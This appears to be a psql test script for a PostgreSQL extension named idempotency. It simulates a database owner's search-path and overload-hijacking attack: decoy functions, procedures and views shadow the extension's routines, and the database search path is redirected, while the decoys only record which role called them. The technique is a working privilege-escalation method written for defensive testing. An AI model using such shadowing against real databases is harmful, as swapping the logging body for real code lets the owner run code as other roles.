-- The database owner's overloads (docs/security.md "The database owner"): run as the owner of the
-- database, who is no superuser, after CREATE EXTENSION idempotency. For every routine of the
-- extension (found by membership, wherever it lives) it plants, in public (which the owner owns
-- on PostgreSQL 15 and later) and in a schema of its own (evil):
--   A. the same name with every argument text DEFAULT NULL, under the same argument names: an
--      unqualified call with untyped literals, positional or named, prefers it (the string
--      category wins at each unknown argument), as public.idem_bind(text, text, text) won over
--      idem_bind(text, text, regrole) in 1.x;
--   B. the same arguments plus one more with a default: an unqualified call that leaves out
--      trailing arguments becomes ambiguous (42725) where B stands beside the real routine, as
--      the 1.x pg_cron job's CALL did;
-- and for every view of the extension a view of the same name in evil. Every decoy writes a row
-- to public.owner_decoy_fired (name, current_user) before anything else; then the database's
-- search path is set to evil, public, so that an unqualified name in any session of the database
-- finds the decoys. The attack succeeds when a row shows a role other than the owner. Run with
-- psql (it uses \if and \gexec).
SET client_min_messages = warning;
-- this session's own names from pg_catalog (the database's path may already hold decoys)
SET search_path = pg_catalog, public;
CREATE SCHEMA IF NOT EXISTS evil;
CREATE TABLE public.owner_decoy_fired (name text, who text, at timestamptz DEFAULT clock_timestamp());
GRANT INSERT, SELECT ON public.owner_decoy_fired TO PUBLIC;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE public.owner_decoys (schema text, name text, kind text);

CREATE FUNCTION evil.owner_decoy_view(name text) RETURNS SETOF record LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.owner_decoy_fired (name, who) VALUES (name, current_user);
END $$;

DO $plant$
DECLARE
    r record;
    s text;
    a_args text;
    b_args text;
    body text;
BEGIN
    FOR r IN
        SELECT p.oid, p.proname, p.prokind, p.pronargs, p.proargnames, p.proargmodes,
               pg_catalog.pg_get_function_arguments(p.oid) AS args
        FROM pg_catalog.pg_proc p
        JOIN pg_catalog.pg_depend d ON d.classid = 'pg_catalog.pg_proc'::regclass AND d.objid = p.oid
             AND d.deptype = 'e'
        JOIN pg_catalog.pg_extension e ON e.oid = d.refobjid AND e.extname = 'idempotency'
        WHERE p.prorettype <> 'pg_catalog.trigger'::regtype
          AND p.prorettype <> 'pg_catalog.internal'::regtype
    LOOP
        -- A: the IN (and INOUT) arguments, by name where the routine has names, as text
        SELECT string_agg(pg_catalog.format('%I text DEFAULT NULL',
                                            coalesce(nullif(r.proargnames[i], ''), 'a' || i)), ', ' ORDER BY i)
        INTO a_args
        FROM generate_series(1, coalesce(array_length(r.proargmodes, 1), r.pronargs)) i
        WHERE r.proargmodes IS NULL OR r.proargmodes[i] IN ('i', 'b');
        body := pg_catalog.format('BEGIN INSERT INTO public.owner_decoy_fired (name, who) VALUES (%L, current_user); END',
                                  r.proname);
        FOREACH s IN ARRAY ARRAY['public', 'evil'] LOOP
            BEGIN
                IF r.prokind = 'p' THEN
                    EXECUTE pg_catalog.format('CREATE PROCEDURE %I.%I(%s) LANGUAGE plpgsql AS %L',
                                              s, r.proname, coalesce(a_args, ''), body);
                ELSE
                    EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS void LANGUAGE plpgsql AS %L',
                                              s, r.proname, coalesce(a_args, ''), body);
                END IF;
                INSERT INTO public.owner_decoys VALUES (s, r.proname, 'A');
            EXCEPTION WHEN duplicate_function OR invalid_function_definition THEN
                NULL; -- the real routine has this very signature (all text) in this schema
            END;
            -- B: the real arguments and one more with a default (no OUT arguments: void)
            CONTINUE WHEN r.proargmodes IS NOT NULL AND r.prokind <> 'p' AND 'o' = ANY (r.proargmodes);
            CONTINUE WHEN 't' = ANY (coalesce(r.proargmodes, '{}'));
            b_args := CASE WHEN r.args = '' THEN '' ELSE r.args || ', ' END || 'owner_extra integer DEFAULT 0';
            BEGIN
                IF r.prokind = 'p' THEN
                    EXECUTE pg_catalog.format('CREATE PROCEDURE %I.%I(%s) LANGUAGE plpgsql AS %L',
                                              s, r.proname, b_args, body);
                ELSE
                    EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS void LANGUAGE plpgsql AS %L',
                                              s, r.proname, b_args, body);
                END IF;
                INSERT INTO public.owner_decoys VALUES (s, r.proname, 'B');
            EXCEPTION WHEN invalid_function_definition OR duplicate_function THEN
                NULL;
            END;
        END LOOP;
    END LOOP;
    -- the views
    FOR r IN
        SELECT c.relname, pg_catalog.string_agg(pg_catalog.format('%I %s', a.attname,
                                                pg_catalog.format_type(a.atttypid, a.atttypmod)), ', ' ORDER BY a.attnum) AS cols
        FROM pg_catalog.pg_class c
        JOIN pg_catalog.pg_depend d ON d.classid = 'pg_catalog.pg_class'::regclass AND d.objid = c.oid AND d.deptype = 'e'
        JOIN pg_catalog.pg_extension e ON e.oid = d.refobjid AND e.extname = 'idempotency'
        JOIN pg_catalog.pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0
        WHERE c.relkind = 'v'
        GROUP BY c.relname
    LOOP
        EXECUTE pg_catalog.format('CREATE VIEW evil.%I AS SELECT * FROM evil.owner_decoy_view(%L) AS d(%s)',
                                  r.relname, r.relname, r.cols);
        INSERT INTO public.owner_decoys VALUES ('evil', r.relname, 'view');
    END LOOP;
END
$plant$;
-- the database's search path (a caller that set its own, as the security stage's part attack
-- does with pg_catalog after evil, passes -v keep_search_path=1)
\if :{?keep_search_path}
\else
SELECT pg_catalog.format('ALTER DATABASE %I SET search_path = evil, public', pg_catalog.current_database()) \gexec
\endif
